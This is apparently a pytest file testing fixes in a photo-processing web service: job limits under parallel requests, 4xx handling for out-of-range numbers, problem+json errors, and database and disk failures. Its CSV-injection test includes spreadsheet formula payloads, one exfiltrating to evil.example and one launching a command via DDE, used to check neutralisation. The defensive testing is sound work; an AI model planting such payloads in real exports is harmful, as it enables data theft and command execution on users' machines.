"""A store you can trust, limits that hold, numbers that stay 4xx (issue 15, findings 5-9).

* The per-key job limit holds under 12 parallel requests (SQLite and PostgreSQL).
* A deleted, replaced or corrupted database, a read-only or full media folder: the service
  says so (problem+json, ``/health``, ``/health/ready``) and keeps no upload without a job.
* Ids, cursors and durations out of range are 4xx, never 500; every error is problem+json.
* The CSV export neutralises formulas; 405s carry ``Allow``; video errors hide server paths.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from mien.service.store import Store

from .conftest import SAMPLE, shared
from .service_fixtures import Service, database_fixture, service_fixture, start_service

JPEG = SAMPLE.read_bytes()
PROBLEM = "application/problem+json"
limited = service_fixture(workers=0, max_jobs_per_key=4)  # jobs stay queued: no worker runs
working = service_fixture(retention_s=3600)
database = database_fixture()


def problem(resp, status: int, code: str) -> dict:
    assert resp.status_code == status, resp.text
    assert resp.headers["content-type"].startswith(PROBLEM), resp.headers
    body = resp.json()
    assert body["code"] == code and body["status"] == status, body
    assert body["type"].endswith(code) and body["title"] and body["detail"]
    return body


def jpeg_job(svc: Service, auth: dict[str, str] | None = None, query: str = ""):
    headers = {**(auth or svc.auth), "content-type": "image/jpeg"}
    return svc.client.post(f"/v1/jobs{query}", content=JPEG, headers=headers)


def folders(media_dir: Path) -> list[str]:
    if not media_dir.exists():
        return []
    return sorted(p.name for p in media_dir.iterdir() if not p.name.startswith("."))


# -- atomic per-key limit ----------------------------------------------------------------------


def test_parallel_job_creations_never_exceed_the_per_key_limit(limited: Service) -> None:
    """12 parallel POST /v1/jobs with a limit of 4 accept exactly 4 (finding 5: 10-12 were)."""
    key_id, key = limited.new_key("racer")
    auth = {"Authorization": f"Bearer {key}"}
    start = threading.Barrier(12)

    def post(_: int):
        start.wait(timeout=30)
        return jpeg_job(limited, auth)

    with ThreadPoolExecutor(12) as pool:
        answers = list(pool.map(post, range(12)))
    codes = sorted(r.status_code for r in answers)
    assert codes == [202] * 4 + [429] * 8, [r.text for r in answers]
    for r in answers:
        if r.status_code == 429:
            problem(r, 429, "TooManyJobs")
    accepted = [r.json()["id"] for r in answers if r.status_code == 202]
    store: Store = limited.app.state.mien.store
    assert store.active_jobs(key_id) == 4
    # a refused request keeps nothing on disk: exactly the accepted jobs have folders
    mine = set(folders(limited.config.media_dir)) & set(accepted)
    assert mine == set(accepted)
    for r in answers:
        if r.status_code == 202:
            limited.client.delete(r.headers["location"], headers=auth)


# -- numbers -----------------------------------------------------------------------------------


@pytest.mark.parametrize("big", [2**63, 2**64 + 5, 10**30])
def test_item_ids_out_of_range_are_4xx(limited: Service, big: int) -> None:
    """Finding 7: a review item id >= 2**63 was a 500 (decision, form, thumbnail)."""
    r = limited.client.post(
        f"/v1/review/items/{big}/decision",
        json={"decision": "approve", "reviewer": "Ada"},
        headers=limited.auth,
    )
    problem(r, 422, "InvalidParameter")
    r = limited.client.get(f"/review/items/{big}/thumbnail", headers=limited.auth)
    problem(r, 422, "InvalidParameter")
    r = limited.client.post(f"/review/items/{big}", data={"decision": "approve"})
    assert 400 <= r.status_code < 500, r.text


def test_largest_item_id_and_ids_past_postgres_integers_are_not_found(limited: Service) -> None:
    for n in (2**63 - 1, 2**31, 2**31 - 1):
        r = limited.client.post(
            f"/v1/review/items/{n}/decision",
            json={"decision": "reject", "reviewer": "Ada"},
            headers=limited.auth,
        )
        problem(r, 404, "NotFound")
        problem(
            limited.client.get(f"/review/items/{n}/thumbnail", headers=limited.auth),
            404,
            "NotFound",
        )


def _cursor(value: int) -> str:
    return base64.urlsafe_b64encode(str(value).encode()).decode().rstrip("=")


def test_cursors_and_event_ids_out_of_range_are_4xx(limited: Service) -> None:
    job = jpeg_job(limited)
    assert job.status_code == 202, job.text
    loc = job.headers["location"]
    try:
        for bad in (2**63, 10**40, -1):
            r = limited.client.get(f"{loc}/results?cursor={_cursor(bad)}", headers=limited.auth)
            problem(r, 400, "InvalidCursor")
            if bad < 0:  # a negative Last-Event-ID is read as "from the start"
                continue
            r = limited.client.get(
                f"{loc}/events", headers={**limited.auth, "Last-Event-ID": str(bad)}
            )
            if len(str(bad)) <= 40:
                problem(r, 400, "InvalidCursor")
            else:  # longer than any event id: refused by the header's length limit
                problem(r, 422, "InvalidParameter")
        problem(
            limited.client.get(f"{loc}/events?after={2**63}", headers=limited.auth),
            422,
            "InvalidParameter",
        )
        for edge in (2**63 - 1, 2**31):  # valid cursors past every stored id: an empty page
            r = limited.client.get(f"{loc}/results?cursor={_cursor(edge)}", headers=limited.auth)
            assert r.status_code == 200, r.text
            assert r.json()["items"] == [] and r.json()["next_cursor"] is None
    finally:
        limited.client.delete(loc, headers=limited.auth)


@pytest.mark.parametrize("value", ["1e400", "-1e400", "nan", "inf", "-5", "1e12d", "-0.5s"])
def test_retention_out_of_range_is_422(limited: Service, value: str) -> None:
    """Finding 7: retention=1e400 was a 500."""
    r = jpeg_job(limited, query=f"?retention={value}")
    problem(r, 422, "InvalidParameter")
    r = limited.client.post(
        "/v1/jobs",
        files={"files": ("a.jpg", JPEG, "image/jpeg")},
        data={"retention": value},
        headers=limited.auth,
    )
    problem(r, 422, "InvalidParameter")


# -- every error is problem+json ---------------------------------------------------------------


def test_405_carries_allow_and_422_is_problem_json(limited: Service) -> None:
    r = limited.client.put("/v1/jobs", headers=limited.auth)
    problem(r, 405, "MethodNotAllowed")
    assert r.headers["allow"] == "POST"
    r = limited.client.patch("/v1/jobs/abc", headers=limited.auth)
    problem(r, 405, "MethodNotAllowed")
    assert set(r.headers["allow"].replace(" ", "").split(",")) == {"GET", "DELETE"}
    r = limited.client.get("/v1/jobs/abc/results?limit=0", headers=limited.auth)
    problem(r, 422, "InvalidParameter")


def test_openapi_documents_422_500_503_as_problem_json() -> None:
    from mien.service.app import openapi_document

    doc = openapi_document()
    assert "HTTPValidationError" not in doc["components"]["schemas"]
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            for status in ("500", "503"):
                assert "application/problem+json" in op["responses"][status]["content"], (
                    path,
                    method,
                )
            if "422" in op["responses"]:
                assert list(op["responses"]["422"]["content"]) == [PROBLEM], (path, method)
    assert "507" in doc["paths"]["/v1/jobs"]["post"]["responses"]


def test_an_unexpected_error_is_a_500_problem(tmp_path: Path, monkeypatch) -> None:
    """A bug in a route answers 500 problem+json with a stable code, not text/plain."""
    from fastapi.testclient import TestClient

    from mien.service.app import create_app
    from mien.service.config import ServiceConfig
    from mien.service.keys import create_key

    app = create_app(ServiceConfig(data_dir=tmp_path, workers=0))
    with TestClient(app, raise_server_exceptions=False) as client:
        store = app.state.mien.store
        _, key = create_key(store, "t")

        def broken(*_a: object, **_k: object) -> None:
            raise RuntimeError("a bug")

        monkeypatch.setattr(store, "get_job", broken)
        r = client.get("/v1/jobs/abc", headers={"Authorization": f"Bearer {key}"})
        body = problem(r, 500, "InternalError")
        assert "a bug" not in body["detail"] and "RuntimeError" in body["detail"]


# -- CSV injection -----------------------------------------------------------------------------


def test_csv_export_neutralises_formulas(working: Service) -> None:
    """Finding 8: a reviewer name =HYPERLINK(...) was exported as a live formula."""
    evil_name = "@SUM(1+1).jpg"
    r = working.client.post(
        "/v1/jobs?profile=publish-safe",
        files={"files": (evil_name, JPEG, "image/jpeg")},
        headers=working.auth,
    )
    assert r.status_code == 202, r.text
    job = working.wait_job(r.headers["location"])
    assert job["status"] == "succeeded", job
    items = working.client.get("/v1/review/items", headers=working.auth).json()["items"]
    item = next(it for it in items if it["job_id"] == job["id"])
    assert item["name"] == evil_name
    reviewers = {
        '=HYPERLINK("http://evil.example/?"&A1,"click")': "approve",
        "+cmd|' /C calc'!A0": "reject",
        "-2+3": "approve",
        "\tTAB": "approve",
        "\uff1dSUM(A1)": "approve",  # full-width equals sign
        "Ada = fine": "approve",  # a formula character later in the text is harmless
    }
    exported: dict[str, str] = {}
    for reviewer, decision in reviewers.items():
        d = working.client.post(
            f"/v1/review/items/{item['id']}/decision",
            json={"decision": decision, "reviewer": reviewer},
            headers=working.auth,
        )
        assert d.status_code == 200, d.text
        text = working.client.get("/v1/review/export?format=csv", headers=working.auth).text
        row = next(
            r for r in csv.DictReader(io.StringIO(text)) if int(r["result_id"]) == item["id"]
        )
        exported[reviewer] = row["reviewer"]
        assert row["name"] == "'" + evil_name
        assert row["decision"] in ("approved", "rejected")
        assert row["result_id"] == str(item["id"])  # numbers stay numbers
    for reviewer, cell in exported.items():
        if reviewer[0] in "=+-\t\uff1d":
            assert cell == "'" + reviewer, (reviewer, cell)
        else:
            assert cell == reviewer
    # the JSON export is data, not a spreadsheet: unchanged
    rows = working.client.get("/v1/review/export?format=json", headers=working.auth).json()
    assert next(r for r in rows if r["result_id"] == item["id"])["name"] == evil_name


# -- a store you can trust ---------------------------------------------------------------------


@pytest.fixture
def sqlite_service(tmp_path: Path) -> Iterator[Service]:
    yield from start_service(tmp_path, "sqlite", None, workers=0)


def _db_files(svc: Service) -> list[Path]:
    return sorted(svc.config.data_dir.glob("mien.db*"))


def _store_refused(r, word: str) -> None:
    body = problem(r, 503, "StoreUnavailable")
    assert word in body["detail"], body
    assert r.headers.get("retry-after")


def test_a_deleted_database_stops_the_server_accepting_work(sqlite_service: Service) -> None:
    """Finding 6: after `rm mien.db*` the server answered 202 into the unlinked file."""
    svc = sqlite_service
    assert svc.client.get("/health").status_code == 200
    assert svc.client.get("/health/ready").json()["status"] == "ready"
    made = jpeg_job(svc)
    assert made.status_code == 202
    for f in _db_files(svc):
        f.unlink()
    before = folders(svc.config.media_dir)
    _store_refused(jpeg_job(svc), "deleted")
    assert folders(svc.config.media_dir) == before  # nothing written for the refused job
    _store_refused(svc.client.get(made.headers["location"], headers=svc.auth), "deleted")
    _store_refused(svc.client.get("/v1/review/items", headers=svc.auth), "deleted")
    _store_refused(svc.client.get("/health"), "deleted")
    r = svc.client.get("/health/ready")
    body = problem(r, 503, "NotReady")
    assert "deleted" in body["checks"]["store"] and body["checks"]["media"] == "ok"
    assert not _db_files(svc), "no new database file may appear behind the server's back"


def test_a_replaced_database_is_detected(sqlite_service: Service) -> None:
    svc = sqlite_service
    db = svc.config.data_dir / "mien.db"
    store: Store = svc.app.state.mien.store
    with store.engine.connect() as c:
        c.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    copy = db.with_name("copy.db")
    shutil.copyfile(db, copy)
    os.replace(copy, db)  # the same content, another file
    _store_refused(jpeg_job(svc), "replaced")
    _store_refused(svc.client.get("/health"), "replaced")


def _corrupt(db: Path) -> None:
    """Overwrite every page after the first (the header and schema) with garbage."""
    page = 4096
    size = db.stat().st_size
    with open(db, "r+b") as fh:
        for off in range(page, size, page):
            fh.seek(off)
            fh.write(bytes((i * 37 + 11) % 256 for i in range(page)))


def test_a_corrupted_database_answers_problem_json_and_health_says_so(
    sqlite_service: Service,
) -> None:
    """Finding 6: a corrupted DB gave text/plain 500s while /health said ok."""
    svc = sqlite_service
    made = jpeg_job(svc)
    assert made.status_code == 202
    store: Store = svc.app.state.mien.store
    with store.engine.connect() as c:
        c.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    store.engine.dispose()  # no connection keeps clean pages in its cache
    _corrupt(svc.config.data_dir / "mien.db")
    r = svc.client.get(made.headers["location"], headers=svc.auth)
    body = problem(r, 503, "StoreUnavailable")
    assert "DatabaseError" in body["detail"] and "SELECT" not in body["detail"]
    body = problem(svc.client.get("/health"), 503, "StoreUnavailable")
    assert "DatabaseError" in body["detail"]
    r = svc.client.get("/health/ready")
    assert problem(r, 503, "NotReady")["checks"]["store"] != "ok"


def _mount_tmpfs(where: Path, *options: str) -> None:
    if os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("needs root to mount a small tmpfs")
    where.mkdir(parents=True, exist_ok=True)
    opts = ",".join(("size=1m", "mode=0700", *options))
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(where)],
        capture_output=True,
        timeout=30,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")


@contextlib.contextmanager
def tmpfs_media(tmp_path: Path, *options: str) -> Iterator[Path]:
    media = tmp_path / "media"
    _mount_tmpfs(media, *options)
    try:
        yield media
    finally:
        subprocess.run(["umount", "-l", str(media)], capture_output=True, timeout=30)


def test_a_full_media_folder_is_507_and_leaves_no_folder(tmp_path: Path) -> None:
    """Finding 6: ENOSPC answered 500 text/plain and left upload folders without a job row."""
    with tmpfs_media(tmp_path) as media:
        for svc in start_service(tmp_path, "sqlite", None, workers=0):
            big = JPEG * (2 * 1024 * 1024 // len(JPEG) + 1)  # over the 1 MB tmpfs
            r = svc.client.post(
                "/v1/jobs",
                files=[
                    ("files", ("a.jpg", JPEG, "image/jpeg")),
                    ("files", ("b.jpg", big, "image/jpeg")),
                ],
                headers=svc.auth,
            )
            body = problem(r, 507, "InsufficientStorage")
            assert str(tmp_path) not in body["detail"]
            assert folders(media) == [], "no upload folder without a job"
            assert svc.app.state.mien.store.active_jobs(svc.key_id) == 0
            ready = svc.client.get("/health/ready")  # less free space than one upload
            assert "free" in problem(ready, 503, "NotReady")["checks"]["media"]
            small = jpeg_job(svc)  # what fits is still accepted
            assert small.status_code == 202, small.text


def test_a_read_only_media_folder_is_503(tmp_path: Path) -> None:
    with tmpfs_media(tmp_path, "ro") as media:
        for svc in start_service(tmp_path, "sqlite", None, workers=0):
            body = problem(jpeg_job(svc), 503, "MediaUnavailable")
            assert "Read-only" in body["detail"] and str(tmp_path) not in body["detail"]
            assert folders(media) == []
            assert svc.app.state.mien.store.active_jobs(svc.key_id) == 0
            ready = problem(svc.client.get("/health/ready"), 503, "NotReady")
            assert ready["checks"]["store"] == "ok" and "Read-only" in ready["checks"]["media"]


def test_orphan_upload_folders_are_removed(limited: Service) -> None:
    """A crash between writing an upload and inserting its job leaves a folder: the purger
    removes it once it is old enough; folders of jobs, and young ones, stay."""
    from mien.service.media import remove_orphans

    made = jpeg_job(limited)
    assert made.status_code == 202
    job_id = made.json()["id"]
    media = limited.config.media_dir
    orphan, young = media / ("a" * 32), media / ("b" * 32)
    for folder in (orphan, young):
        folder.mkdir()
        (folder / "00000.bin").write_bytes(JPEG)
    old = time.time() - 3600
    os.utime(orphan, (old, old))
    os.utime(media / job_id, (old, old))
    store: Store = limited.app.state.mien.store
    assert remove_orphans(store, media) == [orphan.name]
    assert not orphan.exists() and young.exists() and (media / job_id / "00000.bin").exists()
    shutil.rmtree(young)
    limited.client.delete(made.headers["location"], headers=limited.auth)


# -- smaller items (finding 9) -----------------------------------------------------------------


def test_stream_job_folders_are_private(limited: Service) -> None:
    r = limited.client.post(
        "/v1/jobs",
        data={"kind": "stream", "url": "rtsp://user:secret@cam.example/stream1"},
        headers=limited.auth,
    )
    assert r.status_code == 202, r.text
    folder = limited.config.media_dir / r.json()["id"]
    assert folder.stat().st_mode & 0o777 == 0o700
    assert (folder / "stream.url").stat().st_mode & 0o777 == 0o600
    assert limited.config.media_dir.stat().st_mode & 0o077 == 0
    limited.client.delete(r.headers["location"], headers=limited.auth)


def test_video_errors_do_not_show_server_paths(working: Service) -> None:
    """Finding 9: a broken video's error named the upload's absolute path on the server."""
    clip = shared("pyfeat_media", "single_face.mp4").read_bytes()
    broken = clip[: len(clip) // 3]  # the header promises frames the file does not have
    r = working.client.post(
        "/v1/jobs",
        files={"video": ("cut.mp4", broken, "video/mp4")},
        headers=working.auth,
    )
    assert r.status_code == 202, r.text
    job = working.wait_job(r.headers["location"])
    page = working.client.get(f"{r.headers['location']}/results?limit=1000", headers=working.auth)
    text = str(job) + page.text
    assert str(working.config.data_dir) not in text and ".bin" not in text, text[-2000:]
    assert "cut.mp4" in text


# -- workers die with their server -------------------------------------------------------------


def _workers_of(server_pid: int) -> list[int]:
    """Pids of live ``mien.service.worker`` processes started by server ``server_pid``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            args = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if b"mien.service.worker" in args and str(server_pid).encode() in args and state != "Z":
            found.append(int(entry.name))
    return found


def test_sigkill_of_the_server_leaves_no_worker(database, tmp_path: Path) -> None:
    """Finding 9: SIGKILL of `mien serve` left its job worker running (here: in the middle of a
    batch). The worker notices within a second, hands the job back and exits."""
    import signal

    import httpx

    from .service_fixtures import cli_key, free_port, store_args
    from .test_service_restart import Server

    auth = {"Authorization": f"Bearer {cli_key(store_args(tmp_path, database))}"}
    photos = sorted(shared("dlib_examples_faces", "images").glob("*.jpg"))
    files = [("files", (f"{i}-{p.name}", p.read_bytes(), "image/jpeg")) for i in range(4)
             for p in photos]  # fmt: skip
    server = Server(tmp_path, database, free_port())
    server.start()
    assert server.proc is not None
    pid = server.proc.pid
    try:
        r = httpx.post(f"{server.base}/v1/jobs", files=files, headers=auth, timeout=60)
        assert r.status_code == 202, r.text
        loc = server.base + r.headers["location"]
        deadline = time.monotonic() + 300
        while (job := httpx.get(loc, headers=auth, timeout=10).json())["progress"]["done"] < 1:
            assert job["status"] in ("queued", "running") and time.monotonic() < deadline, job
            time.sleep(0.05)
        assert _workers_of(pid), "the server runs a worker"
        os.kill(pid, signal.SIGKILL)  # the server only: not its process group
        server.proc.wait(timeout=30)
        deadline = time.monotonic() + 15
        while _workers_of(pid):
            assert time.monotonic() < deadline, f"worker(s) outlived the server: {_workers_of(pid)}"
            time.sleep(0.2)
        from mien.service.config import ServiceConfig

        store = Store.open(
            ServiceConfig(data_dir=tmp_path, db_url=database.url).database_url,
            migrate_schema=False,
        )
        try:
            left = store.get_job(job["id"])
        finally:
            store.close()
        assert left is not None and left.status == "queued", left  # handed back
        assert 1 <= left.done_items < len(files)
    finally:
        server.kill(signal.SIGKILL)
        for stray in _workers_of(pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(stray, signal.SIGKILL)


def test_synchronous_routes_never_spool_uploads_to_disk(limited: Service, monkeypatch) -> None:
    """Finding 9: uploads over 1 MB to /v1/faces:analyze and /v1/redact went to a temporary
    file although the docs say they are never written. They stay in memory now."""
    import tempfile

    import numpy as np
    from PIL import Image

    rng = np.random.default_rng(1)
    buf = io.BytesIO()
    Image.fromarray(rng.integers(0, 255, (1200, 1600, 3), dtype=np.uint8)).save(
        buf, "JPEG", quality=100
    )
    big = buf.getvalue()
    assert len(big) > 2 * 1024 * 1024
    spooled: list[int] = []
    real_rollover = tempfile.SpooledTemporaryFile.rollover

    def rollover(self: tempfile.SpooledTemporaryFile) -> None:  # type: ignore[type-arg]
        spooled.append(1)
        real_rollover(self)

    monkeypatch.setattr(tempfile.SpooledTemporaryFile, "rollover", rollover)
    for route in ("/v1/faces:analyze", "/v1/redact"):
        r = limited.client.post(route, files={"image": ("big.jpg", big, "image/jpeg")},
                                headers=limited.auth)  # fmt: skip
        assert r.status_code == 200, r.text
        r = limited.client.post(
            route, content=big, headers={**limited.auth, "content-type": "image/jpeg"}
        )
        assert r.status_code == 200, r.text
    assert spooled == [], "an upload was written to a temporary file"


def test_serve_refuses_a_corrupted_database_with_one_line(tmp_path: Path) -> None:
    """Finding 6: restarting on a corrupted database failed with a traceback."""
    import sys

    subprocess.run(
        [sys.executable, "-m", "mien", "keys", "create", "--data-dir", str(tmp_path)],
        capture_output=True,
        timeout=120,
        check=True,
    )
    _corrupt(tmp_path / "mien.db")
    done = subprocess.run(
        [sys.executable, "-m", "mien", "serve", "--data-dir", str(tmp_path), "--port", "1",
         "--workers", "0"],
        capture_output=True,
        timeout=120,
    )  # fmt: skip
    err = done.stderr.decode()
    assert done.returncode == 3, err
    assert "Traceback" not in err and "malformed" in err and "restore it" in err, err


def test_parallel_job_creations_on_a_real_server(database, tmp_path: Path) -> None:
    """The quota race over real HTTP: `mien serve --max-jobs-per-key 4`, 12 clients at once."""
    import signal

    import httpx

    from .service_fixtures import cli_key, free_port, spawn_server, store_args, wait_healthy

    key = cli_key(store_args(tmp_path, database))
    auth = {"Authorization": f"Bearer {key}", "content-type": "image/jpeg"}
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    log = tmp_path / "server.log"
    server = spawn_server(
        [*store_args(tmp_path, database), "--port", str(port), "--workers", "0",
         "--max-jobs-per-key", "4", "--log-level", "warning"],
        log,
    )  # fmt: skip
    try:
        wait_healthy(server, base, log)
        start = threading.Barrier(12)
        body = JPEG * (3 * 1024 * 1024 // len(JPEG))  # saving takes a while: a wider window

        def post(_: int) -> int:
            start.wait(timeout=30)
            r = httpx.post(f"{base}/v1/jobs", content=body, headers=auth, timeout=60)
            return r.status_code

        with ThreadPoolExecutor(12) as pool:
            codes = sorted(pool.map(post, range(12)))
        assert codes == [202] * 4 + [429] * 8, codes
        assert len(folders(tmp_path / "media")) == 4  # the refused ones kept nothing
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)


def test_a_dropped_postgresql_database_answers_problem_json(tmp_path: Path) -> None:
    """PostgreSQL's version of a deleted store: the database is dropped under the server."""
    from .service_fixtures import make_database

    db = make_database("postgresql")
    try:
        for svc in start_service(tmp_path, "postgresql", db.url, workers=0):
            made = jpeg_job(svc)
            assert made.status_code == 202
            db.drop()  # terminates the server's connections and removes the database
            r = svc.client.get(made.headers["location"], headers=svc.auth)
            body = problem(r, 503, "StoreUnavailable")
            assert "127.0.0.1" not in body["detail"] and "postgres" not in body["detail"]
            problem(jpeg_job(svc), 503, "StoreUnavailable")
            assert folders(svc.config.media_dir) == [made.json()["id"]]  # nothing new kept
            problem(svc.client.get("/health"), 503, "StoreUnavailable")
            checks = problem(svc.client.get("/health/ready"), 503, "NotReady")["checks"]
            assert checks["store"] != "ok" and checks["media"] == "ok"
    finally:
        db.drop()


def test_text_the_database_cannot_store_is_a_422_not_a_store_fault(working: Service) -> None:
    """Found by Schemathesis on PostgreSQL: a reviewer name with a NUL character made the
    database refuse the row (DataError), which was answered 503 StoreUnavailable and made
    /health report the store as failing for 60 s - any key holder could trip it. Such names are
    now refused as invalid (422), and a value the database refuses anyway is a 422 too."""
    for bad in ("Ada\x00", "line\nbreak", "\x7f"):
        r = working.client.post(
            "/v1/review/items/1/decision",
            json={"decision": "approve", "reviewer": bad},
            headers=working.auth,
        )
        problem(r, 422, "InvalidParameter")
    assert working.client.get("/health").status_code == 200


def test_a_data_error_from_the_database_is_the_callers_fault() -> None:
    """The store-fault handler maps a database DataError (the request's data) to 422 without
    counting it as a store failure."""
    import asyncio

    from fastapi import FastAPI
    from sqlalchemy.exc import DataError
    from starlette.requests import Request

    from mien.service import faults

    app = FastAPI()
    faults.install(app)
    handler = app.exception_handlers[faults.SQLAlchemyError]
    request = Request({"type": "http", "method": "POST", "path": "/x", "headers": [], "app": app})
    resp = asyncio.run(handler(request, DataError("INSERT", {}, ValueError("NUL"))))
    assert resp.status_code == 422 and b"InvalidParameter" in resp.body
